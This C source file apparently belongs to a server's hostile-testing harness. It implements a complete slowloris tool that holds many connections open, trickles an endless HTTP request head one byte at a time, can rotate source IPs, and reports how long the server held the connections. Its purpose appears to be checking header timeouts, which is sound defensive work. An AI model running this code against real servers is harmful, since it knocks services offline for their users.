/* hostile-trickle.c — slowloris: connections that send a request head a byte at a time
 *
 * trickle [--piece] N HOST PORT SECONDS [FROM_IP...]: keeps N connections
 * open to HOST:PORT (from each FROM_IP in turn, for a spread over
 * addresses), each sending one more byte of a request head that never ends
 * every 2 s; a connection the server closes is opened again. With --piece
 * the head's first line up to the task id goes at once, so an upload
 * server hands the connection to a piece thread, which must cut it too. Prints how many were
 * opened, refused (closed within a second, before any byte could count),
 * cut (closed later), and the longest any connection was held
 * (held_max_ms): a server with a header timeout keeps none much longer.
 */
#include "config.h"

#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <unistd.h>

#include "dfly-hostile.h"

#define TRICKLE_INTERVAL_US (2 * G_USEC_PER_SEC)
#define TICK_MS             100
#define REFUSED_US          (G_USEC_PER_SEC) /* closed sooner: refused at accept */

/* A head whose end never comes: its last header grows a byte at a time. */
static const char head[] = "GET /v1/tasks/slow HTTP/1.1\r\nHost: victim\r\nX-Slow: ";
/* What --piece sends at once: a piece request's start. */
#define PIECE_PREFIX_LENGTH (sizeof "GET /v1/tasks/" - 1)

typedef struct {
  int    fd;
  gint64 opened_at;
  gint64 next_byte_at;
  gsize  sent;
} Trickle;

typedef struct {
  guint  opened, refused, cut, failed;
  gint64 held_max_us;
} Counts;

static void
raise_file_limit (void)
{
  struct rlimit limit;

  if (getrlimit (RLIMIT_NOFILE, &limit) == 0 && limit.rlim_cur < limit.rlim_max) {
    limit.rlim_cur = limit.rlim_max;
    setrlimit (RLIMIT_NOFILE, &limit);
  }
}

static int
open_one (const struct sockaddr_in *to, const char *from)
{
  struct sockaddr_in local = { .sin_family = AF_INET };
  int                fd = socket (AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);

  if (fd < 0)
    return -1;
  if (from != NULL && (inet_pton (AF_INET, from, &local.sin_addr) != 1 ||
                       bind (fd, (struct sockaddr *) &local, sizeof local) < 0)) {
    close (fd);
    return -1;
  }
  if (connect (fd, (const struct sockaddr *) to, sizeof *to) < 0 && errno != EINPROGRESS) {
    close (fd);
    return -1;
  }
  return fd;
}

static void
closed (Trickle *t, Counts *counts, gint64 now)
{
  gint64 held = now - t->opened_at;

  if (held < REFUSED_US)
    counts->refused++;
  else
    counts->cut++;
  counts->held_max_us = MAX (counts->held_max_us, held);
  close (t->fd);
  t->fd = -1;
}

/* Whether the server closed t: readable with nothing to read, or an error. */
static gboolean
is_closed (Trickle *t, short revents)
{
  char byte;

  if (revents & (POLLERR | POLLHUP))
    return TRUE;
  if (revents & POLLIN) {
    gssize n = recv (t->fd, &byte, 1, MSG_DONTWAIT);

    return n == 0 || (n < 0 && errno != EAGAIN && errno != EWOULDBLOCK);
  }
  return FALSE;
}

int
hostile_trickle (int argc, char **argv)
{
  struct sockaddr_in        to = { .sin_family = AF_INET };
  g_autofree Trickle       *trickles = NULL;
  g_autofree struct pollfd *fds = NULL;
  Counts                    counts = { 0 };
  guint                     n, from_count, next_from = 0, open_at_end = 0;
  gboolean                  piece = argc > 1 && strcmp (argv[1], "--piece") == 0;
  gint64                    end;

  if (piece) {
    argc--;
    argv++;
  }
  if (argc < 5 || inet_pton (AF_INET, argv[2], &to.sin_addr) != 1 || atoi (argv[1]) <= 0) {
    g_printerr ("usage: trickle [--piece] N HOST PORT SECONDS [FROM_IP...]\n");
    return 2;
  }
  raise_file_limit ();
  n = atoi (argv[1]);
  to.sin_port = htons (atoi (argv[3]));
  end = g_get_monotonic_time () + (gint64) atoi (argv[4]) * G_USEC_PER_SEC;
  from_count = argc - 5;
  trickles = g_new0 (Trickle, n);
  fds = g_new0 (struct pollfd, n);
  for (guint i = 0; i < n; i++)
    trickles[i].fd = -1;
  while (g_get_monotonic_time () < end) {
    gint64 now = g_get_monotonic_time ();

    for (guint i = 0; i < n; i++) {
      Trickle *t = &trickles[i];

      fds[i] = (struct pollfd){ .fd = -1 };
      if (t->fd < 0) {
        const char *from = from_count > 0 ? argv[5 + next_from++ % from_count] : NULL;

        t->fd = open_one (&to, from);
        if (t->fd < 0) {
          counts.failed++;
          continue;
        }
        counts.opened++;
        t->opened_at = now;
        /* Spread over the interval, so the server sees a steady trickle. */
        t->next_byte_at =
          now + (piece ? TICK_MS * 1000 : g_random_int_range (0, TRICKLE_INTERVAL_US));
        t->sent = 0;
      } else if (now >= t->next_byte_at) {
        /* The first time, with --piece, a piece request's start at once. */
        gsize       length = piece && t->sent == 0 ? PIECE_PREFIX_LENGTH : 1;
        const char *bytes = t->sent < sizeof head - 1 ? &head[t->sent] : "a";
        gssize      sent = send (t->fd, bytes, length, MSG_NOSIGNAL | MSG_DONTWAIT);

        if (sent < 0 && errno != EAGAIN && errno != ENOTCONN) {
          closed (t, &counts, now);
          continue;
        }
        t->sent += MAX (sent, 0);
        t->next_byte_at = now + TRICKLE_INTERVAL_US;
      }
      fds[i] = (struct pollfd){ .fd = t->fd, .events = POLLIN };
    }
    if (poll (fds, n, TICK_MS) < 0 && errno != EINTR)
      break;
    now = g_get_monotonic_time ();
    for (guint i = 0; i < n; i++) {
      if (trickles[i].fd >= 0 && fds[i].fd == trickles[i].fd &&
          is_closed (&trickles[i], fds[i].revents))
        closed (&trickles[i], &counts, now);
    }
  }
  for (guint i = 0; i < n; i++) {
    if (trickles[i].fd >= 0) {
      open_at_end++;
      counts.held_max_us =
        MAX (counts.held_max_us, g_get_monotonic_time () - trickles[i].opened_at);
      close (trickles[i].fd);
    }
  }
  g_print ("opened=%u\nrefused=%u\ncut=%u\nfailed=%u\nopen_at_end=%u\nheld_max_ms=%" G_GINT64_FORMAT
           "\n",
           counts.opened, counts.refused, counts.cut, counts.failed, open_at_end,
           counts.held_max_us / 1000);
  return 0;
}
